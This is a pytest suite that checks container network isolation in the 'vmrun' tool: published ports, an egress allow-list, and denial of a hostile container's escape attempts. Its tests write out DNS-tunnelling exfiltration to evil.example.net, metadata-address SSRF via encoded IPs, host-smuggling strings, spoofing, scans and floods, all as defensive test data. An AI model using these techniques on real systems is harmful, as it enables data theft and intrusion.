"""The network of containers in real guests: what they may reach, who reaches them, and what a
hostile one gets out.

vmrun and its supervisors live on a host (a namespace) whose whole Internet is this test: every
address in the world answers there, so whatever is not stopped is seen.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from oci import Contents, Entry, write_layout
from packages import architecture

from tests.conftest import REPOSITORY, leftovers
from tests.internet import BULK_PORT, HOST, HOST6, RESOLVER, Internet, Packet, internet
from tests.unit.egress_world import receive_all, tls_context
from tests.unit.test_network_names import AAAA, AXFR, TXT, A, address, query, status
from tests.unit.test_network_sniff import client_hello

pytestmark = [
    pytest.mark.guest,
    pytest.mark.timeout(400),
    pytest.mark.skipif(os.geteuid() != 0, reason="makes network namespaces"),
]

SITE, SITE_ADDRESS, SITE_ADDRESS6 = "www.example.com", "93.184.216.34", "2606:2800:220:1::34"
EVIL, EVIL_ADDRESS = "evil.example.net", "93.184.216.66"
NAMED = "93.184.216.99"
"""An address that a rule names."""
METADATA = "169.254.169.254"
GATEWAY, ADDRESS, OTHER = "10.88.0.1", "10.88.0.2", "10.88.0.3"
PORT = 7000
TCP, UDP = 6, 17
NOWHERE = {"ECONNREFUSED", "ECONNRESET", "EHOSTUNREACH", "ENETUNREACH", "ETIMEDOUT", "EINVAL"}
MIB = 1 << 20

Call = Callable[..., subprocess.CompletedProcess[str]]


# --- the world -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def net() -> Iterator[Internet]:
    with tempfile.TemporaryDirectory(prefix="internet-") as name:
        directory = Path(name)
        names = {
            SITE: (SITE_ADDRESS, SITE_ADDRESS6),
            EVIL: (EVIL_ADDRESS,),
            "ok.example.org": (SITE_ADDRESS,),
            "inside.example.org": (METADATA,),
            "private.example.org": ("10.0.0.5",),
            "self.example.org": (HOST,),
            "six.example.org": ("fd00::5", "::ffff:169.254.169.254"),
            "localhost.example.org": ("127.0.0.1",),
        }
        with internet(names, tls_context(directory), directory) as made:
            yield made


@pytest.fixture(scope="module")
def image(tmp_path_factory: pytest.TempPathFactory, busybox: str) -> str:
    """busybox and the probe, as a reference."""
    directory = tmp_path_factory.mktemp("network")
    probe, layout = directory / "network_probe", directory / "image"
    multiarch = f"/usr/include/{os.uname().machine}-linux-gnu"
    subprocess.run(
        [
            *("musl-gcc", "-std=gnu11", "-O2", "-static", "-Wall", "-Wextra", "-Werror"),
            *("-o", probe, Path(__file__).with_name("network_probe.c")),
            *("-idirafter", "/usr/include", "-idirafter", multiarch),
        ],
        check=True,
        timeout=120,
    )
    tools = ("sh", "cat", "wget", "ip", "sleep", "echo", "nslookup", "ls", "id")
    applets = {f"bin/{tool}": Entry(target="busybox") for tool in tools}
    folders = ("bin", "dev", "etc", "proc", "sys", "home", "home/app")
    entries = {
        **{path: Entry() for path in folders},
        **applets,
        "tmp": Entry(mode=0o1777),
        "bin/busybox": Entry(_file_of(busybox, "bin/busybox")),
        "bin/network_probe": Entry(probe.read_bytes()),
        "etc/passwd": Entry(b"app:x:1000:1000:app:/home/app:/bin/sh\n", mode=0o644),
        "etc/group": Entry(b"app:x:1000:\n", mode=0o644),
    }
    settings = {"Cmd": ["sh"], "Env": ["PATH=/bin"], "User": "app"}
    layout.mkdir()
    write_layout(Contents(entries, architecture(), settings), layout, "demo")
    return f"oci:{layout}:demo"


def _file_of(reference: str, path: str) -> bytes:
    """A file of the only layer of an OCI layout."""
    import tarfile

    layout = Path(reference.split(":")[1])
    index = json.loads((layout / "index.json").read_text())

    def blob(digest: str) -> Path:
        return layout / "blobs" / digest.replace(":", "/")

    manifest = json.loads(blob(index["manifests"][0]["digest"]).read_text())
    with tarfile.open(blob(manifest["layers"][0]["digest"])) as layer:
        member = layer.extractfile(path)
        assert member is not None
        return member.read()


@pytest.fixture(scope="module")
def call(net: Internet) -> Call:
    """A vmrun command on the host of this test, run to its end."""

    def run(
        *words: str, stdin: str = "", ok: bool = True, timeout: float = 180
    ) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(
            [*net.command, "env", "-C", str(REPOSITORY), sys.executable, "-m", "vmrun", *words],
            input=stdin,
            capture_output=True,
            text=True,
            timeout=timeout,
            check=False,
        )
        assert not ok or done.returncode == 0, (words, done.returncode, done.stdout, done.stderr)
        return done

    return run


class Service:
    """A run that serves and attacks."""

    def __init__(self, call: Call, name: str) -> None:
        self._call = call
        self.name = name
        self.run_id: str = self.inspect()["run_id"]

    def inspect(self) -> dict[str, Any]:
        (known,) = json.loads(self._call("inspect", self.name).stdout)
        return dict(known)

    @property
    def ports(self) -> list[tuple[str, int]]:
        return [(port["address"], port["host_port"]) for port in self.inspect()["ports"]]

    def probe(self, *tasks: str) -> list[str]:
        """What came of each task."""
        done = self._call("exec", "-i", self.name, "network_probe", stdin="\n".join(tasks) + "\n")
        results = done.stdout.splitlines()
        assert len(results) == len(tasks), (done.stdout, done.stderr)
        return results

    def sh(self, script: str, *, ok: bool = True) -> subprocess.CompletedProcess[str]:
        return self._call("exec", self.name, "sh", "-c", script, ok=ok)

    def events(self, name: str = "") -> list[dict[str, str]]:
        return journal(self._call, f"run={self.run_id}", name)


def journal(call: Call, which: str, name: str = "") -> list[dict[str, str]]:
    lines = call("events", "--json", "--filter", which).stdout.splitlines()
    entries = [json.loads(line) for line in lines]
    return [e["fields"] for e in entries if name in ("", e["event"])]


@pytest.fixture(scope="module", autouse=True)
def nothing_left(call: Call) -> Iterator[None]:
    yield
    for run in json.loads(call("ps", "-a", "--json").stdout):
        call("rm", "-f", run["run_id"], ok=False)
    call("gc", ok=False)
    assert left_by_us(call) == []


def left_by_us(call: Call) -> list[str]:
    """What is left on this host, without the control groups of guests that are not of this test."""
    entries = [json.loads(line) for line in call("events", "--json").stdout.splitlines()]
    guests = {e["fields"][key] for e in entries for key in ("run", "guest") if key in e["fields"]}
    return [
        item
        for item in leftovers()
        if "cgroup" not in item or any(guest and guest in item for guest in guests)
    ]


@pytest.fixture(scope="module")
def web(call: Call, image: str) -> Service:
    """A service with every kind of rule and published port, which restarts."""
    call(
        "run", "-q", "-d", "--name", "web", "--hostname", "web", "--restart", "always",
        "--stop-timeout", "1",
        "-p", f"{PORT}", "-p", f"127.0.0.1:18433:{PORT}", "-p", f"[::1]::{PORT}", "-p", ":7001",
        "--allow", f"{SITE}", "--allow", f"{SITE}:{BULK_PORT}", "--allow", "*.example.org",
        "--allow", f"{NAMED}:22",
        image, "--", "network_probe", "serve", str(PORT),
    )  # fmt: skip
    return Service(call, "web")


@pytest.fixture(scope="module")
def docked(call: Call, image: str) -> Service:
    """Another guest with the other engine, and the same address on its wire."""
    call(
        "run", "-q", "-d", "--name", "docked", "--hostname", "docked", "--engine", "docker",
        "-p", f"{PORT}", "--allow", "*.example.org:80",
        image, "--", "network_probe", "serve", str(PORT),
    )  # fmt: skip
    return Service(call, "docked")


def text(data: str | bytes) -> str:
    return (data.encode() if isinstance(data, str) else data).hex()


def said(result: str) -> bytes:
    """The answer in a result; empty when there was none."""
    return bytes.fromhex(result[1:]) if result.startswith("=") else b""


def get(url: str, host: str | None = None, *fields: str) -> str:
    host = host or url.split("/")[2]
    lines = [f"GET {url} HTTP/1.1", f"Host: {host}", *fields, "Connection: close"]
    return text("\r\n".join(lines) + "\r\n\r\n")


def connect(authority: str, then: bytes = b"") -> str:
    return text(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode() + then)


def socks(host: str, port: int, then: bytes = b"") -> str:
    name = bytes([3, len(host)]) + host.encode()
    return text(b"\5\1\0\5\1\0" + name + struct.pack("!H", port) + then)


def exchange(sock: socket.socket, data: bytes) -> bytes:
    with sock:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        return receive_all(sock)


def free(net: Internet, where: str, port: int) -> bool:
    try:
        net.listen(where, port).close()
    except OSError:
        return False
    return True


# --- without a network ---------------------------------------------------------------------


def test_without_options_there_is_only_loopback(call: Call, net: Internet, image: str) -> None:
    net.forget()
    tasks = [
        f"tcp {SITE_ADDRESS} 80", f"udp {RESOLVER} 53 {query(SITE).hex()}", f"tcp {GATEWAY} 3128",
        f"tcp {SITE_ADDRESS6} 80", f"tcp {METADATA} 80", "netlink route", "netlink link",
    ]  # fmt: skip
    done = call("run", "-q", "-i", image, "--", "sh", "-c",
                "ls /sys/class/net; cat /etc/resolv.conf /etc/hosts; env; network_probe",
                stdin="\n".join(tasks) + "\n", ok=False)  # fmt: skip
    lines = done.stdout.splitlines()
    assert lines[0] == "lo"
    assert lines[-7:] == [*["ENETUNREACH"] * 3, lines[-4], "ENETUNREACH", "EPERM", "EPERM"]
    assert lines[-4] in ("ENETUNREACH", "EADDRNOTAVAIL", "EAFNOSUPPORT")
    assert "proxy" not in done.stdout.lower()
    assert net.packets == set()


def test_a_port_in_use_is_an_error_before_a_guest_is_made(
    call: Call, net: Internet, image: str
) -> None:
    with net.listen("127.0.0.1", 18432):
        for words in (("-d",), ()):
            begun = time.monotonic()
            done = call("run", *words, "-p", f"18432:{PORT}", image, "--", "cat", ok=False)
            assert done.returncode == 125
            assert "cannot publish port 18432 of 127.0.0.1: Address already in use" in done.stderr
            assert "choose another host port, or 0" in done.stderr
            assert "booting" not in done.stderr
            assert time.monotonic() - begun < 15
    assert call("ps", "-aq").stdout == ""
    assert left_by_us(call) == []


# --- publish -------------------------------------------------------------------------------


def test_published_ports_lead_to_the_container(web: Service, net: Internet, call: Call) -> None:
    ports = web.ports
    assert [where for where, _ in ports] == ["127.0.0.1", "127.0.0.1", "::1", "127.0.0.1"]
    assert ports[1][1] == 18433
    assert all(port >= 1024 for _, port in ports)
    for where, port in ports[:3]:
        assert exchange(net.connect(where, port), b"W") == f"web {GATEWAY}\n".encode()
    assert f"127.0.0.1:18433->{PORT}/tcp" in call("ps").stdout
    assert f"127.0.0.1:{ports[3][1]}" in call("port", "web", "7001").stdout


def test_by_default_only_this_host_can_connect(web: Service, net: Internet) -> None:
    for where in (HOST, HOST6):
        with pytest.raises(ConnectionRefusedError):
            net.connect(where, web.ports[0][1])
    with pytest.raises(OSError):  # noqa: PT011 - refused or not answered
        net.connect_from_outside(HOST, web.ports[0][1])


def test_connections_are_independent(web: Service, net: Internet) -> None:
    where, port = web.ports[0]

    def one(number: int) -> bool:
        data = bytes([number]) * 10_000
        return exchange(net.connect(where, port), b"E" + data) == data

    with ThreadPoolExecutor(16) as pool:
        assert all(pool.map(one, range(48)))


def test_half_closed_connections_go_on(web: Service, net: Internet) -> None:
    where, port = web.ports[0]
    data = os.urandom(300_000)
    counted = f"{len(data)} {sum(data)}\n".encode()
    assert exchange(net.connect(where, port), b"C" + data) == counted
    with net.connect(where, port) as client:
        client.sendall(b"S0000200000")
        assert len(receive_all(client)) == 200_000, "the container's end, ours is open"
        client.sendall(b"x")


def test_large_transfers_both_ways(
    web: Service, net: Internet, record_property: Callable[[str, object], None]
) -> None:
    where, port = web.ports[0]
    size = 4 * MIB
    begun = time.monotonic()
    with net.connect(where, port) as client:
        client.sendall(f"S{size:010}".encode())
        assert len(receive_all(client)) == size
    down = time.monotonic()
    data = bytes(range(256)) * (size // 256)
    assert exchange(net.connect(where, port), b"C" + data) == f"{size} {sum(data)}\n".encode()
    up = time.monotonic()
    times = []
    for _ in range(10):
        start = time.monotonic()
        assert exchange(net.connect(where, port), b"W")
        times.append(time.monotonic() - start)
    figures = {
        "publish, from the container, MiB/s": round(4 / (down - begun), 1),
        "publish, to the container, MiB/s": round(4 / (up - down), 1),
        "publish, one connection and answer, ms (median)": round(sorted(times)[5] * 1000, 1),
    }
    record_property("publish", figures)
    print(figures)


def test_resets_are_resets(web: Service, net: Internet) -> None:
    def ask(where: str, port: int, data: bytes) -> bytes:
        with net.connect(where, port) as client:
            client.sendall(data)
            return client.recv(1)

    with pytest.raises(ConnectionError):  # nobody listens on 7001 in there
        ask(*web.ports[3], b"x")
    with pytest.raises(ConnectionResetError):
        ask(*web.ports[0], b"R")


# --- allow ---------------------------------------------------------------------------------


def test_programs_find_the_proxy_and_the_name_server(web: Service, net: Internet) -> None:
    net.forget()
    done = web.sh(
        f"wget -q -O - http://{SITE}/by-proxy?token=s3cret && echo && "
        f"unset http_proxy HTTP_PROXY && wget -q -O - http://{SITE}/by-name && echo && "
        "cat /etc/hosts /etc/resolv.conf && echo $https_proxy $ALL_PROXY $NO_PROXY",
        ok=False,
    )
    lines = done.stdout.splitlines()
    assert lines[0] == f"{SITE}/by-proxy?token=s3cret", done
    assert f"{ADDRESS} web" in lines
    assert f"nameserver {GATEWAY}" in lines
    expected = f"http://{GATEWAY}:3128 socks5h://{GATEWAY}:1080 localhost,127.0.0.1,::1"
    assert lines[-1] == expected
    assert {asked.host for asked in net.asked} == {SITE}


def test_each_way_leads_to_what_is_allowed(web: Service, net: Internet) -> None:
    net.forget()
    hello = client_hello(SITE)
    (answer,) = web.probe(f"udp {GATEWAY} 53 {query(SITE).hex()}")
    stands_for = address(said(answer))
    assert stands_for is not None
    assert stands_for.startswith("198.1")
    results = web.probe(
        f"tcp {GATEWAY} 3128 {get(f'http://{SITE}/page', None, 'X-Token: s3cret')}",
        f"tcp {GATEWAY} 3128 {connect(f'{SITE}:443', hello)}",
        f"tcp {GATEWAY} 1080 {socks(SITE, 443, hello)}",
        f"tcp {stands_for} 80 {get('/direct', SITE)}",
        f"tcp {stands_for} 443 {text(hello)}",
        f"tcp {NAMED} 22 {get('/', NAMED)}",
        f"udp 8.8.8.8 53 {query('ok.example.org').hex()}",
        f"tcp {GATEWAY} 53 {text(struct.pack('!H', len(query(SITE))) + query(SITE))}",
        f"name {SITE} 80 {get('/resolved', SITE)}",
    )
    answers = [said(result) for result in results]
    assert f"{SITE}/page".encode() in answers[0]
    assert b"\r\n\r\n\x16\x03\x03" in answers[1], "a ServerHello through CONNECT"
    assert answers[2][:4] == b"\5\0\5\0"
    assert b"\x16\x03\x03" in answers[2]
    assert f"{SITE}/direct".encode() in answers[3]
    assert answers[4].startswith(b"\x16\x03\x03")
    assert f"{NAMED}/".encode() in answers[5]
    assert (address(answers[6]) or "").startswith("198.1"), "any resolver is ours"
    assert address(answers[7][2:]) == stands_for
    assert f"{SITE}/resolved".encode() in answers[8]
    assert set(net.queries) <= {SITE}
    assert {p.address for p in net.packets} <= {RESOLVER, SITE_ADDRESS, SITE_ADDRESS6, NAMED}


def test_bulk_through_the_proxy(
    web: Service, net: Internet, record_property: Callable[[str, object], None]
) -> None:
    size = 4 * MIB
    there = f"{SITE}:{BULK_PORT}"
    down, up, *short = web.probe(
        f"through {GATEWAY} 3128 {connect(there, f'S{size:010}'.encode())} 0",
        f"through {GATEWAY} 3128 {connect(there, b'C')} {size}",
        *[f"through {GATEWAY} 3128 {connect(there, b'S0000000001')} 0"] * 9,
    )
    got, milliseconds = map(int, down.split())
    assert got >= size
    sent, up_milliseconds = map(int, up.split())
    assert sent > len(f"{size}\n")
    figures = {
        "CONNECT, to the container, MiB/s": round(4000 / milliseconds, 1),
        "CONNECT, from the container, MiB/s": round(4000 / up_milliseconds, 1),
        "CONNECT and one byte, ms (median)": sorted(int(s.split()[1]) for s in short)[4],
    }
    record_property("connect", figures)
    print(figures)
    assert Packet(TCP, SITE_ADDRESS, BULK_PORT) in net.packets or (
        Packet(TCP, SITE_ADDRESS6, BULK_PORT) in net.packets
    )


# --- what a hostile container gets out --------------------------------------------------------


def test_names_carry_nothing_out(web: Service, net: Internet) -> None:
    net.forget()
    label = "73656372657473" * 4
    asked = [
        query(f"{label}.t.{EVIL}"), query(f"{label}.{label}.{label}.t.{EVIL}", TXT),
        query(EVIL, AAAA), query(EVIL, 5), query(EVIL, 10), query("localhost"), query("gateway"),
        query("www.example.com.evil.example.net"), query("metadata.google.internal"),
    ]  # fmt: skip
    tasks = [f"udp {there} 53 {q.hex()}" for q in asked for there in (GATEWAY, RESOLVER)]
    results = [said(result) for result in web.probe(*tasks)]
    assert [status(result) for result in results] == [3] * len(tasks)
    below = [f"udp {GATEWAY} 53 {query(f'{label}.{n}.example.org', k).hex()}"
             for n, k in enumerate((A, TXT, AAAA, 65))]  # fmt: skip
    transfer = struct.pack("!H", len(query(EVIL, AXFR))) + query(EVIL, AXFR)
    *answers, refused = web.probe(*below, f"tcp {GATEWAY} 53 {text(transfer)}")
    assert [status(said(a)) for a in answers] == [0] * 4
    assert [address(said(a)) is None for a in answers] == [False, True, True, True]
    assert status(said(refused)[2:]) == 5
    assert net.queries == []
    assert net.packets == set()


def test_no_packet_goes_anywhere(web: Service, net: Internet) -> None:
    net.forget()
    places = [
        SITE_ADDRESS, EVIL_ADDRESS, METADATA, HOST, RESOLVER, OTHER, "10.0.0.5", "192.168.1.1",
        "172.17.0.1", "224.0.0.1", "255.255.255.255", "198.18.7.7",
    ]  # fmt: skip
    tcp = [f"tcp {there} {port}" for there in places for port in (80, 25)]
    udp = [f"udp {there} {port} 00" for there, port in (
        (SITE_ADDRESS, 443), (EVIL_ADDRESS, 123), (HOST, 111), (GATEWAY, 5353), (OTHER, 9),
    )]  # fmt: skip
    six = [f"tcp {there} 80" for there in (SITE_ADDRESS6, HOST6, "::ffff:93.184.216.66",
           "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "fe80::1", "ff02::1")]  # fmt: skip
    results = web.probe(*tcp, *udp, *six)
    for task, result in zip([*tcp, *udp, *six], results, strict=True):
        assert result in {*NOWHERE, "silence", "EACCES", "EADDRNOTAVAIL", "EAFNOSUPPORT", "="}, task
    pings = web.probe(*[f"ping {there}" for there in (SITE_ADDRESS, GATEWAY, HOST, OTHER)])
    assert not [result for result in pings if result == "answer"], pings
    assert net.packets == set()
    assert net.asked == []


def test_the_kernel_gives_it_no_other_way(web: Service) -> None:
    packets = [f"socket {family} {kind} {protocol}" for family, kind, protocol in (
        (2, 3, 1), (2, 3, 6), (2, 3, 255), (10, 3, 58), (17, 3, 0), (17, 2, 0), (40, 1, 0),
        (29, 3, 1), (31, 1, 3), (38, 5, 0), (44, 3, 0), (2, 10, 0),
    )]  # fmt: skip
    results = web.probe(*packets, "netlink address", "netlink route", "netlink link",
                        f"spoof {OTHER} {GATEWAY}", f"spoof 8.8.8.8 {GATEWAY}")  # fmt: skip
    assert not [result for result in results[: len(packets)] if result == "made"], results
    assert results[-5:-2] == ["EPERM"] * 3
    for result in results[-2:]:
        _, transparent, *_, answered = result.split()
        assert transparent == "EPERM"
        assert answered == "silence", "nothing comes back to an address that is not its own"


def test_no_form_of_another_destination_is_allowed(web: Service, net: Internet) -> None:
    net.forget()
    refused = [
        EVIL, EVIL_ADDRESS, SITE_ADDRESS, METADATA, HOST, f"[{HOST6}]", f"[{SITE_ADDRESS6}]",
        "127.0.0.1", "[::1]", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", GATEWAY, OTHER,
        "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "127.1", "localhost",
        "inside.example.org", "private.example.org", "self.example.org", "six.example.org",
        "localhost.example.org", f"{SITE}.{EVIL}", f"{SITE}@{EVIL}", f"{SITE}%00.{EVIL}",
        "example.org",
    ]  # fmt: skip
    results = web.probe(
        *[f"tcp {GATEWAY} 3128 {get(f'http://{host}/')}" for host in refused],
        *[f"tcp {GATEWAY} 3128 {connect(f'{host}:443', client_hello(SITE))}" for host in refused],
        *[f"tcp {GATEWAY} 1080 {socks(host.strip('[]'), 80, b'GET /')}" for host in refused],
    )
    answers = [said(result) for result in results]
    http, tunnels, through_socks = (answers[i * len(refused) :][: len(refused)] for i in range(3))
    for host, answer in zip(refused * 2, http + tunnels, strict=True):
        assert answer[:12] in (b"HTTP/1.1 403", b"HTTP/1.1 400"), (host, answer)
    for host, answer in zip(refused, through_socks, strict=True):
        assert answer[:4] == b"\5\0\5\2", (host, answer)
    assert net.asked == []
    assert {p for p in net.packets if p.address != RESOLVER} == set()
    assert {q.partition(".")[2] for q in net.queries} <= {"example.org"}, "only what a rule allows"


def test_other_ports_are_not_allowed(web: Service, net: Internet) -> None:
    net.forget()
    (answer,) = web.probe(f"udp {GATEWAY} 53 {query(SITE).hex()}")
    site = address(said(answer))
    results = web.probe(
        f"tcp {GATEWAY} 3128 {connect(f'{SITE}:22')}", f"tcp {GATEWAY} 1080 {socks(SITE, 22)}",
        f"tcp {site} 22", f"tcp {NAMED} 80 {get('/', NAMED)}",
        f"tcp {GATEWAY} 80", f"tcp {GATEWAY} 22", f"tcp {GATEWAY} {BULK_PORT}", f"tcp {GATEWAY} 1",
    )  # fmt: skip
    assert said(results[0]).startswith(b"HTTP/1.1 403")
    assert said(results[1]) == b"\5\0\5\2\0\1" + bytes(6)
    assert set(results[2:]) <= NOWHERE | {"="}
    assert net.packets == set()


def test_who_is_asked_inside_must_be_who_was_allowed(web: Service, net: Internet) -> None:
    net.forget()
    (answer,) = web.probe(f"udp {GATEWAY} 53 {query(SITE).hex()}")
    site = address(said(answer))
    other, none = client_hello(EVIL), client_hello(None)
    two = bytes.fromhex(get("/first", SITE)).replace(b"close", b"keep-alive")
    two += bytes.fromhex(get("/second", EVIL))
    results = web.probe(
        f"tcp {site} 80 {get('/', EVIL)}", f"tcp {site} 80 {text(two)}",
        f"tcp {site} 443 {text(other)}", f"tcp {site} 443 {text(none)}",
        f"tcp {GATEWAY} 3128 {connect(f'{SITE}:443', other)}",
        f"tcp {GATEWAY} 3128 {get(f'http://{SITE}/', EVIL)}",
        f"tcp {GATEWAY} 1080 {socks(SITE, 443, other)}",
        f"tcp {site} 80 {text('SSH-2.0-x' + chr(13) + chr(10))}",
    )  # fmt: skip
    assert said(results[0]).startswith(b"HTTP/1.1 403")
    assert b"/second" not in said(results[1])
    assert said(results[2])[:1] == b"\x15", "an alert, not a ServerHello"
    assert all(b"\x16\x03\x03" not in said(result) for result in results[3:])
    assert EVIL not in {asked.host.removeprefix("(sni) ") for asked in net.asked}


def test_redirects_lead_nowhere_else(web: Service, net: Internet) -> None:
    net.forget()
    for target in (f"http://{EVIL}/x", f"http://{METADATA}/latest", f"http://{HOST}/"):
        done = web.sh(f"wget -q -O - http://{SITE}/to/{target}", ok=False)
        assert done.returncode != 0
    assert {asked.host for asked in net.asked} == {SITE}
    assert {p.address for p in net.packets} <= {RESOLVER, SITE_ADDRESS, SITE_ADDRESS6}


def test_what_it_listens_on_in_the_guest_is_not_there(web: Service) -> None:
    """127.0.0.1 is its own, and no service of the guest is on any address that it can name."""
    results = web.probe(
        f"tcp 127.0.0.1 {PORT} {text('W')}", "scan 127.0.0.1 1 60", f"scan {GATEWAY} 1 60"
    )
    assert said(results[0]) == b"web 127.0.0.1\n"
    assert results[1] == "0 60 0"
    opened, refused, late = map(int, results[2].split())
    assert opened <= 2, "DNS, and port 22, which some rule allows to somewhere else"
    assert (refused, late) == (60 - opened, 0)


def test_floods_are_bounded_and_the_journal_is_not_flooded(web: Service, net: Internet) -> None:
    net.forget()
    before = len(web.events("network.deny"))
    made, alive = map(int, web.probe(f"flood {GATEWAY} 3128 400")[0].split())
    assert made > 64
    assert alive <= 64
    sent = int(web.probe(f"storm {GATEWAY} 2000 {query('0000000.' + EVIL).hex()}")[0])
    assert sent > 100
    web.probe(*[f"tcp 203.0.113.{n} 80" for n in range(100)])
    assert len(web.events("network.deny")) - before <= 2 * 33
    assert net.packets == set()
    done = web.sh(f"wget -q -O - http://{SITE}/after-the-flood")
    assert done.stdout == f"{SITE}/after-the-flood"
    where, port = web.ports[0]
    assert exchange(net.connect(where, port), b"W") == f"web {GATEWAY}\n".encode()


# --- two guests, restarts, ends ------------------------------------------------------------


def test_two_guests_with_the_same_address_do_not_meet(
    web: Service, docked: Service, net: Internet
) -> None:
    assert web.inspect()["address"] == docked.inspect()["address"] == ADDRESS
    for service in (web, docked):
        where, port = service.ports[0]
        expected = f"{service.name} {GATEWAY}\n".encode()
        assert exchange(net.connect(where, port), b"W") == expected
    net.forget()
    inside = ("inside.example.org", "private.example.org", "self.example.org")
    mine = [get(f"http://{host}/") for host in ("ok.example.org", SITE, *inside)]
    *results, first, second, third, fourth, fifth = docked.probe(
        "socket 2 3 1", "socket 17 3 0", "netlink address", "netlink route",
        f"tcp {EVIL_ADDRESS} 80", f"udp {EVIL_ADDRESS} 53 {query(EVIL).hex()}",
        f"udp {EVIL_ADDRESS} 123 00", f"tcp {METADATA} 80",
        f"tcp {GATEWAY} 1080 {socks(SITE, 80)}", f"tcp {ADDRESS} {PORT} {text('W')}",
        *[f"tcp {GATEWAY} 3128 {request}" for request in mine],
    )  # fmt: skip
    assert b"ok.example.org/" in said(first)
    assert said(second).startswith(b"HTTP/1.1 403"), "that is the other one's rule"
    for result in (third, fourth, fifth):
        assert said(result).startswith(b"HTTP/1.1 403"), "no name leads inside"
    assert results[:4] == ["EPERM"] * 4
    assert results[4] in NOWHERE | {"="}
    assert status(said(results[5])) == 3
    assert results[6] in NOWHERE | {"silence"}
    assert results[7] in NOWHERE | {"="}
    assert said(results[8])[:4] == b"\5\0\5\2"
    assert said(results[9]) == f"docked {ADDRESS}\n".encode(), "its address is its own"
    assert {p.address for p in net.packets} <= {RESOLVER, SITE_ADDRESS}
    denied = docked.events("network.deny")
    assert {(e["via"], e["name"], e["address"], e["reason"]) for e in denied} == {
        ("direct", "", EVIL_ADDRESS, "no rule"), ("direct", "", METADATA, "no rule"),
        ("dns", EVIL, "", "no rule"), ("http", SITE, "", "no rule"), ("socks", SITE, "", "no rule"),
        ("http", "inside.example.org", METADATA, "link-local"),
        ("http", "private.example.org", "10.0.0.5", "private"),
        ("http", "self.example.org", HOST, "this host"),
    }  # fmt: skip
    assert all(e["run"] == docked.run_id and e["container"] == ADDRESS for e in denied)


def test_the_network_is_there_after_a_restart(web: Service, net: Internet) -> None:
    where, port = web.ports[0]
    before = web.inspect()["restarts"]
    exchange(net.connect(where, port), b"Q")
    deadline = time.monotonic() + 60
    answer = b""
    while not answer:
        assert time.monotonic() < deadline
        with contextlib.suppress(OSError):
            answer = exchange(net.connect(where, port), b"W")
        time.sleep(0.3)
    assert answer == f"web {GATEWAY}\n".encode()
    assert web.inspect()["restarts"] == before + 1
    assert web.ports[0] == (where, port)
    done = web.sh(f"wget -q -O - http://{SITE}/again; ip -o addr")
    assert done.stdout.startswith(f"{SITE}/again")
    assert done.stdout.count("inet ") == 2, "lo and one wire"


def test_a_stopped_service_gives_its_ports_back(web: Service, call: Call, net: Internet) -> None:
    ports = web.ports
    assert not any(free(net, *port) for port in ports)
    call("stop", "web")
    assert all(free(net, *port) for port in ports)
    receipt = web.inspect()["receipt"]["removed"]
    expected = [(f"[{where}]" if ":" in where else where) + f":{port}" for where, port in ports]
    assert [item["name"] for item in receipt if item["kind"] == "port"] == expected
    assert all(item["gone"] for item in receipt)
    assert call("audit", "verify").returncode == 0


def test_every_decision_is_in_the_journal_and_nothing_secret(web: Service) -> None:
    """Those that were counted, too: the run has ended."""
    allowed, denied = web.events("network.allow"), web.events("network.deny")
    assert {(e["via"], e["name"], e["port"]) for e in allowed} >= {
        ("http", SITE, "80"), ("http", SITE, "443"), ("socks", SITE, "443"), ("direct", SITE, "80"),
        ("direct", SITE, "443"), ("http", SITE, str(BULK_PORT)),
    }  # fmt: skip
    assert {e["via"] for e in denied} >= {"http", "direct", "dns"}
    # The flood's queries, as far as they were not dropped: 500 a second are looked at.
    many = [e for e in denied if e["reason"] == "many others"]
    assert sum(int(e["repeated"]) for e in many) > 200
    assert {e["container"] for e in (*allowed, *denied)} == {ADDRESS}
    assert all(e["run"] == web.run_id for e in (*allowed, *denied))
    fields = {"run", "container", "via", "name", "address", "port", "reason", "repeated"}
    assert set().union(*(e.keys() for e in (*allowed, *denied))) <= fields
    assert web.events("network.lost") == []
    written = json.dumps([*allowed, *denied])
    for secret in ("s3cret", "by-proxy", "X-Token", "/page", "latest"):
        assert secret not in written


def test_a_killed_guest_gives_its_ports_back(docked: Service, call: Call, net: Internet) -> None:
    (port,) = docked.ports
    held = net.connect(*port)
    held.sendall(b"E")
    assert not free(net, *port)
    os.kill(_qemu_of(docked.run_id), signal.SIGKILL)
    assert call("wait", "docked", timeout=60).stdout.strip() != "0"
    assert docked.inspect()["state"] == "dead"
    assert free(net, *port)
    with held, contextlib.suppress(ConnectionResetError):
        assert held.recv(1) == b""
    assert [i["gone"] for i in docked.inspect()["receipt"]["removed"] if i["kind"] == "port"] == [
        True
    ]


def _qemu_of(run_id: str) -> int:
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                command = (entry / "cmdline").read_bytes()
                if b"qemu-system" in command and f"vmrun-{run_id}".encode() in command:
                    return int(entry.name)
    raise AssertionError(run_id)


# --- neighbours ----------------------------------------------------------------------------

TENANT = "acme"
PROJECT = """
name: pair
services:
  flooder: &probe
    image: {image}
    command: [network_probe, serve, "7000"]
    x-vmrun:
      allow: [www.example.com]
  victim:
    <<: *probe
    ports: ["7000"]
    x-vmrun:
      allow: [ok.example.org]
"""


@pytest.fixture(scope="module")
def pair(
    call: Call, image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[list[Service]]:
    """Two containers of one tenant, in one guest and on one network: the flooder and the victim."""
    file = tmp_path_factory.mktemp("pair") / "compose.yaml"
    file.write_text(PROJECT.format(image=image))
    call("tenant", "create", "-q", "--engine", "crun", "-m", "512m", TENANT)
    call("compose", "up", "-d", "-f", str(file), "--tenant", TENANT)
    running = json.loads(call("ps", "--json", "--filter", f"tenant={TENANT}").stdout)
    names = {role: run["name"] for run in running for role in ("flooder", "victim")
             if role in run["name"]}  # fmt: skip
    yield [Service(call, names["flooder"]), Service(call, names["victim"])]
    call("compose", "down", "-f", str(file), "--tenant", TENANT, ok=False)
